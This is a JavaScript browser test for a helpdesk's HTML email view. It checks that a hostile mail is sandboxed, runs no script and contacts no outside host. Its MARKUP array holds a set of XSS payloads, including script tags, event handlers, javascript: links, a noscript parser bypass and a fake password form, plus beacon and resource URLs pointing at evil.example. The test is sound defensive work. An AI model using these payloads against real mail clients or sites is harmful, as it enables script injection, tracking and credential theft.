import assert from "node:assert/strict";
import { test } from "node:test";
import { HELPDESK, SUPPORT, agent, listen } from "./desk.js";
import { send } from "./smtp.js";

const EVIL = "http://evil.example";
const run = "top.hacked=1;window.hacked=1;new Image().src='" + EVIL + "/ran'";
const MARKUP = [
  `<html><head><base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<link rel="stylesheet" href="${EVIL}/sheet.css"><style>@import "${EVIL}/import.css"; p { background: url(${EVIL}/css) }</style></head>`,
  `<body onload="${run}" background="${EVIL}/background"><p style="background:url('${EVIL}/inline')">Dear desk,</p>`,
  `<script>${run}</script><img src="x" onerror="${run}"><img src="${EVIL}/pixel.png"><img srcset="${EVIL}/set.png 2x">`,
  `<img src="https://pictures.example/logo.png" alt="logo">`,
  `<svg onload="${run}"><script>${run}</script><image href="${EVIL}/svg"/></svg><math><mi xlink:href="javascript:${run}">m</mi></math>`,
  `<iframe src="${EVIL}/frame" srcdoc="<script>${run}</script>"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
  `<video src="${EVIL}/video" poster="${EVIL}/poster" autoplay></video><audio src="${EVIL}/audio" autoplay></audio>`,
  `<form action="${EVIL}/form"><input name="password" autofocus onfocus="${run}"><button id="bait">Sign in</button></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><a href="javascript:${run}">run</a>`,
  `<a href="https://elsewhere.example/page">a link</a></body></html>`,
];

test("a hostile mail is shown, runs nothing, asks for nothing, and its links see nothing of us", async (t) => {
  const picture = "https://pictures.example/logo.png";
  const link = "https://elsewhere.example/page";
  let may = [];
  const asked = [];
  const page = await agent(t, HELPDESK, { mayAsk: (url) => may.includes(url) });
  page.context().on("request", (request) => asked.push(request.url()));
  await listen(page, "/queue/unassigned");
  await send("mallory@evil.example", SUPPORT, [
    "Subject: Invoice attached <script>top.hacked=1</script>",
    "MIME-Version: 1.0",
    "Content-Type: text/html; charset=utf-8",
    "",
    ...MARKUP,
  ]);
  await page.locator(".row", { hasText: "Invoice attached" }).locator("a").click();
  await page.waitForURL("**/tickets/*");
  await page.locator(".html-view summary").click();
  const frame = page.frameLocator(".html-view iframe");
  await frame.getByText("Dear desk,").waitFor();
  const shown = page.frames().find((one) => one !== page.mainFrame());
  await shown.waitForLoadState("load");

  assert.ok(asked.includes(shown.url()), "requests are not seen");
  assert.equal(await frame.locator("script, form, svg, iframe, object, embed, video, audio, meta[http-equiv], link").count(), 0);
  const handlers = await frame.locator("body *").evaluateAll((all) =>
    all.flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on"))),
  );
  assert.deepEqual(handlers, []);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  assert.equal(await shown.evaluate(() => window.hacked), undefined);
  assert.equal(await shown.evaluate(() => window.origin), "null", "the frame has our origin");

  may = [picture];
  const fetched = page.waitForRequest(picture);
  await page.locator(".html-view a.button").click();
  await fetched;

  may = [picture, link];
  const opened = page.waitForEvent("popup");
  await frame.getByText("a link").click();
  const popup = await opened;
  await popup.waitForLoadState();
  assert.equal(popup.url(), link);
  assert.equal(await popup.evaluate(() => window.opener), null);
});
